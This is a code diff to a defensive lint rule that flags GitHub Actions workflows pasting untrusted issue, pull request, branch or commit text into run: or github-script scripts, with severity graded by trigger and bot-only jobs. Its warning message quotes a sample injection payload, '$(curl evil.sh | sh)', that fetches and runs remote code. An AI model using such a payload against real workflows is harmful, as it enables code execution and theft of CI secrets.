@@ -1,5 +1,10 @@
-import { contextPaths, type ExpressionSpan, findExpressions, parseExpression } from '../../engine/languages/expressions';
-import type { TextEdit } from '../../engine/core/finding';
+import { type ExpressionSpan, findExpressions, parseCondition, parseExpression, renderedPaths, type RenderedPath, usesStatusFunction } from '../../engine/languages/expressions';
+import type { Severity, TextEdit } from '../../engine/core/finding';
+import { onlyBotsPass } from '../../engine/model/actors';
+import { byJobId, crossJobVerdicts } from '../../engine/model/crossJob';
+import { graphOf } from '../../engine/model/jobGraph';
+import { stepCondition } from '../../engine/model/jobKind';
+import { mayRunPrivileged, workflowTriggers } from '../../engine/model/triggers';
 import type { Step } from '../../engine/model/workflow';
 import { defineRule } from '../../engine/core/rule';
 import { scalarText, type ScalarText } from '../../engine/yaml/scalarText';
@@ -7,23 +12,48 @@ import { insertMapEntry } from '../../engine/edits/yamlEdit';
 import { type Field, isMap, isScalar, mapFields, type Scalar, spanOf, type YamlDoc, type YamlFile } from '../../engine/yaml/yamlFile';
 
 /**
- * Context paths (lower case, `*` for any index) whose text the author of an issue, comment, pull
- * request, commit or branch chooses. Names, logins, SHAs and numbers are not free text and do not count.
+ * Context paths (lower case, `*` for any index or key) whose text the author of an issue, comment, pull request,
+ * commit, branch or wiki page chooses. Names, logins, SHAs, numbers and flags are not free text and do not count.
  */
-const UNTRUSTED: RegExp[] = [
-  /^github\.event\.(issue|pull_request|discussion)\.(title|body)$/,
-  /^github\.event\.(comment|review|review_comment)\.body$/,
-  /^github\.event\.pages\.[^.]+\.page_name$/,
-  /^github\.event\.(commits\.[^.]+|head_commit)\.(message|(author|committer)\.(email|name))$/,
-  /^github\.event\.pull_request\.head\.(ref|label|repo\.default_branch)$/,
-  /^github\.event\.workflow_run\.(head_branch|display_title|head_commit\.(message|(author|committer)\.(email|name))|pull_requests\.[^.]+\.head\.ref)$/,
-  /^github\.head_ref$/,
-  // Whole objects holding such text, usually passed through toJSON().
-  /^github\.event(\.(issue|pull_request|discussion|comment|review|review_comment|head_commit|commits|workflow_run|pages))?$/,
-];
+const UNTRUSTED_TEXT: readonly string[][] = [
+  ...['issue', 'pull_request', 'discussion'].flatMap((object) => [`github.event.${object}.title`, `github.event.${object}.body`]),
+  ...['comment', 'review', 'review_comment'].map((object) => `github.event.${object}.body`),
+  'github.event.pages.*.page_name',
+  ...['github.event.commits.*', 'github.event.head_commit', 'github.event.workflow_run.head_commit'].flatMap((commit) => [
+    `${commit}.message`,
+    ...['author', 'committer'].flatMap((who) => [`${commit}.${who}.email`, `${commit}.${who}.name`]),
+  ]),
+  ...['ref', 'label', 'repo.default_branch'].map((field) => `github.event.pull_request.head.${field}`),
+  'github.event.workflow_run.head_branch',
+  'github.event.workflow_run.display_title',
+  'github.event.workflow_run.pull_requests.*.head.ref',
+  'github.head_ref',
+].map((path) => path.split('.'));
 
-function isUntrustedContext(path: string): boolean {
-  return UNTRUSTED.some((pattern) => pattern.test(path));
+/** Whether `path` (segments) can stand for the start of `template` (`*` matches any one segment either way). */
+function matchesStart(path: readonly string[], template: readonly string[]): boolean {
+  return path.length <= template.length && path.every((segment, i) => segment === '*' || template[i] === '*' || template[i] === segment);
+}
+
+/**
+ * Whether what the expression pastes in can hold attacker-chosen text: an untrusted text field itself, or an object
+ * holding one passed through `toJSON()`, `join()` …, or picked from one by a computed index. An object pasted as it is
+ * renders as the word `Object` (an array as `Array`), and booleans and numbers (`…draft`, `…number`, comparisons,
+ * `startsWith()`) are never code.
+ */
+function untrustedIn(rendered: RenderedPath): boolean {
+  const path = rendered.path.split('.');
+  switch (rendered.via) {
+    case 'value':
+      return !path.includes('*') && UNTRUSTED_TEXT.some((template) => path.length === template.length && matchesStart(path, template));
+    case 'member': {
+      // A path through a filter (`github.event.commits.*.message`) is already the list of what it matched: an index picks one.
+      const memberLength = path.includes('*') ? path.length : path.length + 1;
+      return UNTRUSTED_TEXT.some((template) => template.length === memberLength && matchesStart(path, template));
+    }
+    case 'content':
+      return UNTRUSTED_TEXT.some((template) => matchesStart(path, template));
+  }
 }
 
 export default defineRule({
@@ -33,14 +63,14 @@ export default defineRule({
   fixable: 'suggestion',
   messages: {
     run: (expression: string, path: string) =>
-      `\`${expression}\` is pasted into the script before it runs, and \`${path}\` is text anyone opening an issue, pull request or branch chooses: a value like \`"; curl evil.sh | sh #\` runs as a command. Pass it through \`env:\` and use the variable.`,
+      `'${expression}' is pasted into the script before it runs, and '${path}' holds text that whoever opens an issue, pull request or branch chooses: a value like '$(curl evil.sh | sh)' runs as a command. Pass it through 'env:' and use the variable.`,
     githubScript: (expression: string, path: string) =>
-      `\`${expression}\` is pasted into the JavaScript before it runs, and \`${path}\` is attacker-chosen text: a quote in it ends the string and the rest runs as code. Pass it through \`env:\` and read \`process.env\`.`,
+      `'${expression}' is pasted into the JavaScript before it runs, and '${path}' holds attacker-chosen text: a quote in it ends the string and the rest runs as code. Pass it through 'env:' and read 'process.env'.`,
   },
   docs: {
     summary: 'Never interpolate untrusted event text (`${{ github.event.issue.title }}` …) into a script.',
     rationale:
-      '`${{ }}` expressions are expanded into the text of a `run:` script (or a github-script `script:`) before the shell or Node sees it, so the value becomes code, not data. Titles, bodies and comments of issues and pull requests, branch names, commit messages and author names are all chosen by whoever opens them, including people with no access to the repository. One crafted title can then run commands with the workflow\'s token and secrets. An environment variable is passed as data and is never parsed as code. Contexts that are not free text (`github.sha`, `github.run_id`, `github.ref`, numbers, logins) are not flagged, nor are expressions in `env:` or `with:`.',
+      '`${{ }}` expressions are expanded into the text of a `run:` script (or a github-script `script:`) before the shell or Node sees it, so the value becomes code, not data. Titles, bodies and comments of issues and pull requests, branch names, commit messages and author names are all chosen by whoever opens them, including people with no access to the repository. One crafted title can then run commands with the workflow\'s token and secrets. An environment variable is passed as data and is never parsed as code. Contexts that are not free text (`github.sha`, `github.run_id`, `github.ref`, numbers, flags such as `…draft`, logins) are not flagged, nor are expressions whose result is a boolean (comparisons, `!`, `contains()`, `startsWith()`, `endsWith()`), nor a whole object pasted as it is (`${{ github.event }}` renders as the word `Object`; `toJSON(github.event)` does paste its text and is flagged), nor expressions in `env:` or `with:`. It is an error when the workflow may run on an event that hands a stranger\'s text to a job with secrets and a writable token (`pull_request_target`, `issues`, `issue_comment`, `discussion`, `discussion_comment`, `workflow_run`, `gollum`, or an event it cannot know: a reusable workflow, a composite action); a warning when it runs only on other events (on `pull_request` a fork\'s text runs with a read-only token and no secrets; on `push` the text comes from people who can push); info when the step or its job runs only for a bot author (`if: github.actor == \'dependabot[bot]\'`, also through `needs:`).',
     symptom:
       'An issue or pull request with an odd title (backticks, `$( )`, quotes) makes a triage or labelling workflow fail, or silently run extra commands; secrets or the GITHUB_TOKEN are exfiltrated.',
     fix: 'Move each such expression into the step\'s `env:` and use the variable, quoted, in the script (`"$PR_TITLE"`; `process.env.PR_TITLE` in github-script). The quick-fix does this, choosing names that do not clash with existing variables; it is offered for POSIX shells (`"$PR_TITLE"`), PowerShell (`$env:PR_TITLE`) and github-script, in whichever shell the step runs (its `shell:`, the job\'s or workflow\'s `defaults: run: shell:`, or the runner\'s default). cmd steps get no fix: cmd expands `%PR_TITLE%` before it parses the line, so the value would still be read as code; nor do Python steps.',
@@ -69,18 +99,55 @@ jobs:
       const found = untrustedExpressions(script.value);
       if (found.length === 0) return;
       const edits = script.text && script.lang !== 'other' && script.lang !== 'cmd' ? fixEdits(ctx.file, ctx.doc, step, script, found) : undefined;
+      const severity = severityFor(step, ctx.doc, step.job.workflow.kind === 'workflow' ? ctx.acrossJobs(BOT_GATED) : byJobId<true>());
       for (const { expression, path } of found) {
         const span = script.text?.sourceSpan(expression.start, expression.end) ?? script.span;
         ctx.report({
           span,
           message: script.kind,
           args: [script.value.slice(expression.start, expression.end), path],
+          ...(severity ? { severity } : {}),
           // One fix moves every expression of the step at once, whichever finding it is invoked from.
           ...(edits ? { fix: { title: 'Pass untrusted values through `env:`', edits } } : {}),
         });
       }
     },
   },
+});
+
+/**
+ * How bad an injection is where the step runs: info when only bots' text reaches it (the step or its job, or a job
+ * it needs, runs only for a bot author); the rule's error when the workflow may run on an event that gives a
+ * stranger's text secrets and a writable token (or on an event it cannot know); a warning otherwise.
+ */
+function severityFor(step: Step, yaml: YamlDoc, botGated: Readonly<Record<string, true>>): Severity | undefined {
+  if (onlyBotsPass(stepCondition(step)) || (!step.job.synthetic && botGated[step.job.id])) return 'info';
+  if (step.job.workflow.kind !== 'workflow' || mayRunPrivileged(workflowTriggers(step.job.workflow, yaml))) return undefined;
+  return 'warning';
+}
+
+/**
+ * The jobs that run only for bot authors: their `if:` lets only bots through, or they need such a job and their
+ * `if:` calls no status function (so they are skipped with it).
+ */
+const BOT_GATED = crossJobVerdicts<true>('script-injection-bot-gated', ({ jobs }) => {
+  const graph = graphOf(jobs);
+  const gated = byJobId<true>();
+  const visiting = new Set<string>();
+  const isGated = (id: string): boolean => {
+    const job = graph.job(id);
+    if (!job || visiting.has(id)) return false;
+    if (gated[id]) return true;
+    visiting.add(id);
+    const parsed = job.ifText === undefined ? undefined : parseCondition(job.ifText);
+    const skippedWithNeeds = !(parsed?.ok && usesStatusFunction(parsed.ast)) && !(job.hasIf && !parsed?.ok);
+    const result = onlyBotsPass(job.ifText) || (skippedWithNeeds && graph.needs(job).some((need) => isGated(need.id)));
+    visiting.delete(id);
+    if (result) gated[id] = true;
+    return result;
+  };
+  for (const job of jobs) isGated(job.id);
+  return gated;
 });
 
 interface Script {
@@ -121,7 +188,7 @@ function untrustedExpressions(script: string): Found[] {
   for (const expression of findExpressions(script)) {
     const parsed = parseExpression(expression.inner);
     if (!parsed.ok) continue;
-    const untrusted = contextPaths(parsed.ast).find(({ path }) => isUntrustedContext(path));
+    const untrusted = renderedPaths(parsed.ast).find(untrustedIn);
     if (untrusted) found.push({ expression, path: untrusted.path });
   }
   return found;
